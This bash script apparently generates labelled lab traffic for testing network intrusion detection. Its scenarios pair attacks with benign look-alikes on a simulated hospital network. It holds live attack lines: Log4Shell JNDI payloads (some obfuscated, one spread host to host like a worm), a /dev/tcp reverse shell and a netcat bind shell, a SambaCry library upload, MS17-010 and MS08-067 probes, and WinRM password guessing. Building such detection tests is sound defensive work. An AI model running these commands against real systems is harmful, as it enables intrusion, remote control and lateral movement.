#!/bin/bash
# Looking for holes and using them, and remote control of hosts by what is not Windows' file sharing.
# shellcheck source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
# shellcheck source=services.sh
source "$RECORD_DIR/services.sh"
# shellcheck source=domain.sh
source "$RECORD_DIR/domain.sh"

ATTACKER=10.20.1.66
ADMIN=10.20.1.30
SERVER=10.20.2.41
SECOND=10.20.1.32

old_server() {
    hospital clients servers
    host server servers $SERVER
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    WINDOWS_MORE="ntlm auth = ntlmv1-permitted" WINDOWS_OLDEST=NT1 windows_on server SRV-OLD $SERVER
}

record_exploit_ms17_check() {
    begin exploit-ms17-check attack "nmap asks a server that speaks SMB 1 whether it lacks the patch against EternalBlue and whether DoublePulsar is there (smb-vuln-ms17-010, smb-double-pulsar-backdoor). Samba is not vulnerable."
    programs nmap
    old_server
    capture clients
    run attacker nmap -n -Pn -p 445 --script smb-vuln-ms17-010,smb-double-pulsar-backdoor $SERVER
    expect "{technique: T1210, actor: $ATTACKER, what: probe for MS17-010, target: $SERVER}"
    contains "smb.cmd == 0x25 || smb.cmd == 0x32" -ge 1
    finish
}

record_exploit_ms08_check() {
    begin exploit-ms08-check attack "A server is asked to compare and shorten paths that climb above their root, by which one learns whether it lacks the patch MS08-067 (MS-SRVS 32 and 31). Samba answers that it knows no such calls."
    old_server
    programs python3-impacket
    capture clients
    run attacker $PYTHON "$RECORD_DIR/calls.py" path-check $SERVER nobody "$LOCAL_PASSWORD"
    expect "{technique: T1210, actor: $ATTACKER, what: probe for MS08-067, target: $SERVER}"
    contains "dcerpc.opnum == 32 || dcerpc.opnum == 31" -ge 2
    finish
}

record_exploit_sambacry() {
    begin exploit-sambacry attack "A library is written to a share and its path opened as a named pipe, so that an old Samba would load it (CVE-2017-7494, Impacket's sambaPipe). This Samba refuses."
    old_server
    impacket sambaPipe
    make_bytes "$WORK/ward.so" 4000
    printf '\x7fELF\x02\x01\x01\0' | dd of="$WORK/ward.so" conv=notrunc status=none
    capture clients
    LIMIT=30 run attacker $PYTHON "$IMPACKET" -so "$WORK/ward.so" "WARD/administrator:$LOCAL_PASSWORD@$SERVER"
    expect "{technique: T1210, actor: $ATTACKER, what: library of a share opened as a pipe, target: $SERVER}"
    contains 'smb2.filename contains ".so" || smb.file contains ".so"' -ge 1
    finish
}

record_benign_old_machine() {
    begin benign-old-machine benign "An analyser that speaks only SMB 1 logs on, lists the shares, writes two results and reads a list of orders, and opens a pipe to ask for the server's name."
    old_server
    echo 'order 1' >"$WORK/smb-server/share/orders.txt"
    make_bytes "$WORK/result.txt" 2000
    capture clients
    run admin smbclient -m NT1 --option='client min protocol=NT1' -U "nobody%$LOCAL_PASSWORD" -L $SERVER
    run admin smbclient -m NT1 --option='client min protocol=NT1' -U "nobody%$LOCAL_PASSWORD" "//$SERVER/ward" -c "put $WORK/result.txt a.txt; put $WORK/result.txt b.txt; get orders.txt $WORK/o; ls"
    run admin rpcclient --option='client min protocol=NT1' --option='client ipc max protocol=NT1' --option='client ipc min protocol=NT1' -U "nobody%$LOCAL_PASSWORD" $SERVER -c srvinfo
    near_miss lateral.smb1_weakness_checked lateral.smb1_implant_asked lateral.pipe_by_path
    contains "smb.cmd == 0x25" -ge 2
    finish
}

# web NAME: a server of pages that logs what it is asked for, as applications do.
web() {
    host web servers 10.20.2.80
    nginx_on web 10.20.2.80
    programs curl
}

record_exploit_log4shell() {
    begin exploit-log4shell attack "A web server is sent names of directory objects on the attacker's host where applications log what they get: in the user agent, in a header and in the address, plain and disguised (Log4Shell)."
    hospital clients servers
    host attacker clients $ATTACKER
    web
    capture clients
    run attacker curl -s -A "\${jndi:ldap://$ATTACKER:1389/a}" http://10.20.2.80/
    run attacker curl -s -H "X-Api-Version: \${\${lower:j}ndi:\${lower:l}dap://$ATTACKER:1389/b}" http://10.20.2.80/page1.html
    run attacker curl -s -g "http://10.20.2.80/?q=\$%7Bjndi:rmi://$ATTACKER/c%7D"
    expect "{technique: T1190, actor: $ATTACKER, what: name of a directory object sent to be logged, target: 10.20.2.80}"
    contains "http.request" -eq 3
    finish
}

record_benign_web_templates() {
    begin benign-web-templates benign "A program calls a web server with braces and dollars in its address and headers, as templates that nobody filled in leave them."
    hospital clients servers
    host admin clients $ADMIN
    web
    capture clients
    run admin curl -s -A 'ward-agent/${project.version}' http://10.20.2.80/
    run admin curl -s -g 'http://10.20.2.80/page1.html?name=${user.name}&sort=${column}'
    run admin curl -s -g 'http://10.20.2.80/page2.html?filter=%24%7Benv:WARD%7D'
    near_miss lateral.code_fetched_by_log lateral.exploit_spread
    contains "http.request" -eq 3
    finish
}

record_lateral_winrm() {
    begin lateral-winrm attack "pywinrm runs three commands on a server by Windows Remote Management. Windows is not at hand: a script of ours answers as MS-WSMV says."
    programs python3-winrm
    hospital clients servers
    host attacker clients $ATTACKER
    host server servers $SERVER
    service server "$PYTHON" "$RECORD_DIR/wsman.py" serve $SERVER
    answering server $SERVER 5985
    capture clients
    run attacker $PYTHON "$RECORD_DIR/wsman.py" run $SERVER administrator "$LOCAL_PASSWORD" whoami "net user" "net localgroup administrators"
    expect "{technique: T1021.006, actor: $ATTACKER, what: remote shell by WinRM, target: $SERVER}"
    contains 'http.request.uri == "/wsman"' -ge 6
    finish
}

record_lateral_winrm_refused() {
    begin lateral-winrm-refused attack "pywinrm tries fourteen passwords of an administrator on a server's Windows Remote Management, in vain (a script of ours answers)."
    programs python3-winrm
    hospital clients servers
    host attacker clients $ATTACKER
    host server servers $SERVER
    service server "$PYTHON" "$RECORD_DIR/wsman.py" serve $SERVER
    answering server $SERVER 5985
    capture clients
    shell attacker "for i in {1..14}; do $PYTHON $RECORD_DIR/wsman.py run $SERVER administrator ward-guess-\$i whoami; done"
    expect "{technique: T1021.006, actor: $ATTACKER, what: WinRM tried, target: $SERVER}"
    expect "{technique: T1110.001, actor: $ATTACKER, kind: password guessing, target: $SERVER}"
    contains "http.response.code == 401" -ge 14
    finish
}

record_benign_wsman_identify() {
    begin benign-wsman-identify benign "A monitoring server asks three times who a server's management service is (WS-Management Identify, without logging on)."
    programs curl
    hospital clients servers
    host admin clients $ADMIN
    host server servers $SERVER
    service server "$PYTHON" "$RECORD_DIR/wsman.py" serve $SERVER
    answering server $SERVER 5985
    printf '%s' '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:wsmid="http://schemas.dmtf.org/wbem/wsman/identity/1/wsmanidentity.xsd"><s:Header/><s:Body><wsmid:Identify/></s:Body></s:Envelope>' >"$WORK/identify.xml"
    capture clients
    local i
    for i in 1 2 3; do
        must admin curl -s -A ward-monitor/2 -H "Content-Type: application/soap+xml;charset=UTF-8" --data-binary "@$WORK/identify.xml" http://$SERVER:5985/wsman
        sleep 1
    done
    near_miss lateral.winrm_shell
    contains "http.request" -eq 3
    finish
}

# dcom_server: a script that answers on port 135 as MS-DCOM says.
dcom_server() {
    programs python3-impacket
    hospital clients servers
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    host server servers $SERVER
    service server "$PYTHON" "$RECORD_DIR/dcom.py" serve $SERVER
    answering server $SERVER 135
}

record_lateral_wmi() {
    begin lateral-wmi attack "A server is asked over DCOM for the class by which WMI runs programs, as wmiexec does, with calls that are signed and not sealed. Windows is not at hand: a script of ours answers and refuses."
    dcom_server
    capture clients
    run attacker $PYTHON "$RECORD_DIR/dcom.py" ask $SERVER administrator "$LOCAL_PASSWORD" 8BC3F05E-D86B-11D0-A075-00C04FB68820
    expect "{technique: T1047, actor: $ATTACKER, what: WMI asked for from afar, target: $SERVER}"
    contains "dcerpc.opnum == 4" -ge 1
    finish
}

record_lateral_dcom() {
    begin lateral-dcom attack "A server is asked over DCOM for the classes that dcomexec runs programs with: MMC20.Application, ShellWindows and ShellBrowserWindow. A script of ours answers and refuses."
    dcom_server
    capture clients
    run attacker $PYTHON "$RECORD_DIR/dcom.py" ask $SERVER administrator "$LOCAL_PASSWORD" 49B2791A-B1AE-4C90-9B8E-E860BA07F889 \
        9BA05972-F6A8-11CF-A442-00A0C90A8F39 C08AFD90-F2A1-11D1-8455-00A0C91F3880
    expect "{technique: T1021.003, actor: $ATTACKER, what: classes asked for that run programs, target: $SERVER}"
    contains "dcerpc.opnum == 4" -ge 3
    finish
}

record_benign_dcom_opc() {
    begin benign-dcom-opc benign "A workstation of building control asks a server over DCOM for the list of its OPC servers, as it does when it starts, and is refused. A script of ours answers."
    dcom_server
    capture clients
    run admin $PYTHON "$RECORD_DIR/dcom.py" ask $SERVER operator "$LOCAL_PASSWORD" 13486D51-4821-11D2-A494-3CB306C10000
    near_miss lateral.dcom_shell_class lateral.wmi_logon
    contains "dcerpc.opnum == 4" -ge 1
    finish
}

record_disc_snmp_walk() {
    begin disc-snmp-walk attack "A workstation reads all that a server's SNMP agent tells, object by object: interfaces, addresses, connections, and how the agent is set up (nmap's snmp scripts, snmpwalk)."
    programs nmap snmp snmpd
    hospital clients servers
    host attacker clients $ATTACKER
    host server servers $SERVER
    printf 'view ward included .1.3.6.1.2.1\nview ward included .1.3.6.1.6\nview ward excluded .1.3.6.1.2.1.25\nrocommunity public default -V ward\nsysName server\nsysLocation ward 3\n' >"$WORK/snmpd.conf"
    service server snmpd -f -Lo -C -c "$WORK/snmpd.conf" -p "$WORK/snmpd.pid" udp:$SERVER:161
    sleep 2
    capture clients
    run attacker nmap -n -Pn -sU -p 161 --script snmp-sysdescr $SERVER
    run attacker snmpwalk -v2c -c public $SERVER .1.3.6.1
    expect "{technique: T1602.001, actor: $ATTACKER, what: whole management tree read, target: $SERVER}"
    contains "snmp" -ge 1000
    finish
}

record_disc_nmap_rdp() {
    begin disc-nmap-rdp attack "nmap asks a terminal server what encryption it knows and whether it lacks the patch MS12-020 (rdp-enum-encryption, rdp-vuln-ms12-020)."
    programs nmap xrdp
    hospital clients servers
    host attacker clients $ATTACKER
    host server servers $SERVER
    openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=ward.hospital.example -keyout "$WORK/key.pem" -out "$WORK/cert.pem" 2>/dev/null
    sed -e "s#^port=.*#port=tcp://$SERVER:3389#" -e 's/^security_layer=.*/security_layer=negotiate/' -e "s#^certificate=.*#certificate=$WORK/cert.pem#" -e "s#^key_file=.*#key_file=$WORK/key.pem#" \
        -e "s#^LogFile=.*#LogFile=$WORK/xrdp.log#" -e 's/^EnableSyslog=.*/EnableSyslog=false/' /etc/xrdp/xrdp.ini >"$WORK/xrdp.ini"
    service server unshare -m sh -c "mkdir -p $WORK/run && mount --bind $WORK/run /run && exec xrdp --nodaemon -c $WORK/xrdp.ini"
    answering server $SERVER 3389
    capture clients
    LIMIT=60 run attacker nmap -n -Pn -p 3389 --script rdp-enum-encryption,rdp-vuln-ms12-020 $SERVER
    expect "{technique: T1046, actor: $ATTACKER, what: terminal server probed, target: $SERVER}"
    contains "tcp.flags == 0x002 && tcp.dstport == 3389" -ge 5
    finish
}

record_remote_support() {
    begin remote-support attack "A workstation opens remote support programs nobody has heard of: relays of AnyDesk and TeamViewer outside by TLS and a VNC server of another workstation. The relays are a web server of ours that has their names."
    programs openssl curl tigervnc-standalone-server nginx-light
    hospital clients outside
    host attacker clients $ATTACKER
    host relay outside 203.0.113.40
    nginx_on relay 203.0.113.40
    capture clients
    local name
    for name in relay-3f2a9c41.net.anydesk.com boot.net.anydesk.com router7.teamviewer.com; do
        run attacker curl -sk -m 5 -o /dev/null --resolve $name:443:203.0.113.40 https://$name/
    done
    expect "{technique: T1219, actor: $ATTACKER, what: relays of remote support programs}"
    contains "tls.handshake.type == 1" -eq 3
    finish
}

# a_server: a workstation of the attacker, one of an administrator, and a server with nothing on it.
a_server() {
    programs bash coreutils netcat-openbsd
    hospital clients servers
    host server servers $SERVER
    host attacker clients $ATTACKER
    host admin clients $ADMIN
}

record_lateral_shell_served() {
    begin lateral-shell-served attack "What an exploit leaves behind: bash on a port of a server, without any login (netcat and a named pipe). The attacker types three commands into it."
    a_server
    mkfifo "$WORK/pipe"
    service server bash -c "nc -l 4444 <$WORK/pipe | bash -i >$WORK/pipe 2>&1"
    sleep 1
    capture clients
    shell attacker "(sleep 1; echo id; sleep 1; echo uname -a; sleep 1; echo exit; sleep 1) | nc -w 3 $SERVER 4444"
    expect "{technique: T1059, actor: $ATTACKER, what: commands typed into a shell without a login, target: $SERVER}"
    contains 'tcp contains "uid="' -ge 1
    finish
}

record_lateral_shell_home() {
    begin lateral-shell-home attack "A server that was broken into connects to the attacker's host and hands its bash over, past the firewall that stops connections from outside; the attacker types two commands."
    a_server
    service attacker bash -c "(sleep 4; echo hostname; sleep 1; echo ls -l /; sleep 1; echo exit; sleep 1) | nc -l 4445"
    sleep 1
    capture clients
    shell server "bash -i >&/dev/tcp/$ATTACKER/4445 0>&1"
    expect "{technique: T1059, actor: $ATTACKER, what: shell handed over, target: $SERVER}"
    contains 'tcp contains "no job control"' -ge 1
    finish
}

record_benign_transcript() {
    begin benign-transcript benign "An administrator sends a supplier the transcript of what was typed on a Windows server and on a Linux one, as files over bare connections (netcat); then the two write each other some lines the same way."
    a_server
    printf 'Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Windows\\system32>ipconfig\r\n\r\nWindows IP Configuration\r\n\r\nC:\\Windows\\system32>exit\r\n' >"$WORK/windows.txt"
    printf 'root@srv-ward:~# df -h\nFilesystem      Size  Used Avail Use%% Mounted on\n/dev/sda1        40G   12G   26G  32%% /\nroot@srv-ward:~# exit\n' >"$WORK/linux.txt"
    service server bash -c "nc -l 9001 >$WORK/got; nc -l 9002 >$WORK/got; (sleep 2; echo 'thank you, I see it'; sleep 2; echo 'please run df again tomorrow') | nc -l 9003"
    sleep 1
    capture clients
    run admin bash -c "nc -N -w 2 $SERVER 9001 <$WORK/windows.txt"
    sleep 1
    run admin bash -c "nc -N -w 2 $SERVER 9002 <$WORK/linux.txt"
    sleep 1
    shell admin "(sleep 1; echo 'did it arrive?'; sleep 2; echo 'the disk is full at night: ls /var shows it'; sleep 2) | nc -w 3 $SERVER 9003"
    near_miss lateral.shell_served lateral.shell_handed_over
    contains 'tcp contains "Microsoft Windows"' -eq 1
    contains 'tcp.dstport == 9003 && tcp.len > 0' -ge 2
    finish
}

record_lateral_exploit_spread() {
    begin lateral-exploit-spread attack "An expression that makes a log fetch code (Log4Shell) goes from host to host within minutes: the attacker sends it to a server, that server to a second one, and the second to a workstation, as a worm would."
    programs curl nginx-light
    hospital clients servers
    host server servers $SERVER
    host second clients $SECOND
    host third clients 10.20.1.31
    host attacker clients $ATTACKER
    nginx_on server $SERVER
    local name
    for name in second third; do
        sed -i -e "s/listen [0-9.]*:80;/listen ${HOST_ADDRESS[$name]}:80;/" -e "s/listen [0-9.]*:443/listen ${HOST_ADDRESS[$name]}:443/" "$WORK/nginx.conf"
        cp "$WORK/nginx.conf" "$WORK/nginx-$name.conf"
        sed -i "s#pid .*#pid $WORK/nginx-$name.pid;#" "$WORK/nginx-$name.conf"
        service $name nginx -c "$WORK/nginx-$name.conf"
        answering $name "${HOST_ADDRESS[$name]}" 80
    done
    capture clients
    local send="curl -s -o /dev/null -A \${jndi:ldap://$ATTACKER:1389/ward}"
    run attacker $send http://$SERVER/
    sleep 1
    run server $send http://$SECOND/
    sleep 1
    run second $send http://10.20.1.31/
    expect "{technique: T1210, actor: $SERVER, kind: worm, target: $SECOND}"
    expect "{technique: T1210, actor: $SECOND, kind: worm, target: 10.20.1.31}"
    expect "{technique: T1190, actor: $ATTACKER, what: expression that makes a log fetch code, target: $SERVER}"
    contains 'http.user_agent contains "jndi"' -ge 2
    finish
}

record_relay_foreign_name() {
    begin relay-foreign-name attack "Half of a relayed logon: a workstation says in NetBIOS what it is called, and so does the attacker's host; then the attacker logs on to the server in the workstation's name, as a relay does that passes the logon on. The victim's half was not recorded."
    named_workstations
    capture clients
    run attacker smbclient --netbiosname ATTACK-1 -p 139 -m SMB2_10 -U "nurse%$LOCAL_PASSWORD" //$SERVER/ward -c ls
    run admin smbclient --netbiosname DESK-7 -p 139 -m SMB2_10 -U "nurse%$LOCAL_PASSWORD" //$SERVER/ward -c ls
    run attacker smbclient --netbiosname DESK-7 -m SMB2_10 -U "administrator%$LOCAL_PASSWORD" //$SERVER/ward -c ls
    expect "{technique: T1557.001, actor: $ATTACKER, kind: logon under a foreign name, target: $SERVER}"
    contains 'nbss.type == 0x81' -ge 2
    contains 'ntlmssp.auth.hostname == "DESK-7"' -ge 2
    finish
}

# named_workstations: a server that answers on the port of NetBIOS, too.
named_workstations() {
    hospital clients servers
    host server servers $SERVER
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    WINDOWS_MORE=$'smb ports = 445 139\ndisable netbios = no' windows_on server SRV-LAB $SERVER
    answering server $SERVER 139
}

record_benign_own_names() {
    begin benign-own-names benign "Two workstations log on to a server, each under its own name: over NetBIOS and directly, one of them in small letters and with its domain."
    named_workstations
    capture clients
    local option
    for option in "--netbiosname DESK-7 -p 139" "--netbiosname DESK-7" "--netbiosname desk-7"; do
        run admin smbclient $option -m SMB2_10 -U "nurse%$LOCAL_PASSWORD" //$SERVER/ward -c ls
    done
    for option in "--netbiosname RADIO-2 -p 139" "--netbiosname RADIO-2"; do
        run attacker smbclient $option -m SMB2_10 -U "nurse%$LOCAL_PASSWORD" //$SERVER/ward -c ls
    done
    near_miss identity.foreign_workstation
    contains 'ntlmssp.messagetype == 3' -ge 5
    finish
}

# nfs_on HOST ADDRESS: the port mapper, and folders that are shared by NFS, one of them with another host only.
nfs_on() {
    programs rpcbind nfs-ganesha nfs-ganesha-mem
    cat >"$WORK/ganesha.conf" <<END
NFS_CORE_PARAM {
    Protocols = 3;
    NFS_Port = 2049;
    MNT_Port = 20048;
    Enable_NLM = false;
    Enable_RQUOTA = false;
    mount_path_pseudo = true;
    Plugins_Dir = "/usr/lib/$(uname -m)-linux-gnu/ganesha";
}
EXPORT { Export_Id = 1; Path = /images; Pseudo = /images; Access_Type = RW; Squash = None; FSAL { Name = MEM; } }
EXPORT { Export_Id = 2; Path = /letters; Pseudo = /letters; Access_Type = None; FSAL { Name = MEM; }
    CLIENT { Clients = 10.20.2.90; Access_Type = RW; } }
END
    service "$1" bash -c "mount -t tmpfs none /run && mkdir /run/ganesha && rpcbind -w && exec ganesha.nfsd -F -f '$WORK/ganesha.conf' -L '$WORK/ganesha.log' -p /run/ganesha/pid"
    answering "$1" "$2" 111
    answering "$1" "$2" 20048
    answering "$1" "$2" 2049
}

record_disc_nfs() {
    begin disc-nfs attack "Somebody lists what five servers can be asked for over the port mapper (rpcinfo) and which folders they share by NFS and with whom (showmount, nmap's nfs-showmount)."
    programs nmap nfs-common
    note "One server plays all five, under five addresses."
    hospital clients servers
    host attacker clients $ATTACKER
    host server servers $SERVER
    more_addresses server 10.20.2.42-45
    nfs_on server $SERVER
    capture clients
    local i
    for ((i = 41; i < 46; i++)); do
        LIMIT=20 run attacker rpcinfo -p 10.20.2.$i
        LIMIT=20 run attacker showmount -e 10.20.2.$i
    done
    LIMIT=60 run attacker nmap -n -Pn -p 111 --script nfs-showmount,rpcinfo $SERVER
    expect "{technique: T1135, actor: $ATTACKER, what: shared folders of five servers listed}"
    expect "{technique: T1046, actor: $ATTACKER, what: services of five servers listed}"
    contains "mount.procedure_v3 == 5 || mount.procedure_v1 == 5" -ge 5
    contains "portmap.procedure_v2 == 4 || portmap.procedure_v3 == 4 || portmap.procedure_v4 == 4" -ge 5
    finish
}

record_benign_nfs() {
    begin benign-nfs benign "A workstation mounts a folder by NFS, writes a file, lists and reads it; then it asks for one that is not for it and is refused."
    programs libnfs-utils
    hospital clients servers
    host admin clients $ADMIN
    host server servers $SERVER
    nfs_on server $SERVER
    make_bytes "$WORK/scan.dcm" 20000
    capture clients
    LIMIT=20 run admin nfs-cp "$WORK/scan.dcm" "nfs://$SERVER/images/scan.dcm?version=3"
    LIMIT=20 run admin nfs-ls "nfs://$SERVER/images?version=3"
    LIMIT=20 run admin nfs-cat "nfs://$SERVER/images/scan.dcm?version=3"
    LIMIT=20 run admin nfs-ls "nfs://$SERVER/letters?version=3"
    near_miss lateral.exports_listed_on_many_hosts lateral.rpc_programs_listed lateral.mounts_refused
    contains "mount.procedure_v3 == 1" -ge 4
    contains "nfs.procedure_v3" -ge 4
    finish
}

record_scan_web_pages() {
    begin scan-web-pages attack "ffuf goes through a list of 160 names on the intranet server; two of them are there."
    programs ffuf nginx-light
    hospital clients servers
    host attacker clients $ATTACKER
    host web servers 10.20.2.80
    nginx_on web 10.20.2.80
    { seq -f 'backup-%g.zip' 1 157; printf '%s\n' admin page1.html page2.html; } >"$WORK/names"
    capture clients
    run attacker ffuf -u http://10.20.2.80/FUZZ -w "$WORK/names" -t 4 -s
    expect "{technique: T1595.003, actor: $ATTACKER, target: 10.20.2.80, what: pages of a web server guessed}"
    contains "http.response.code == 404" -ge 158
    contains "http.response.code == 200" -ge 2
    finish
}

main "$@"
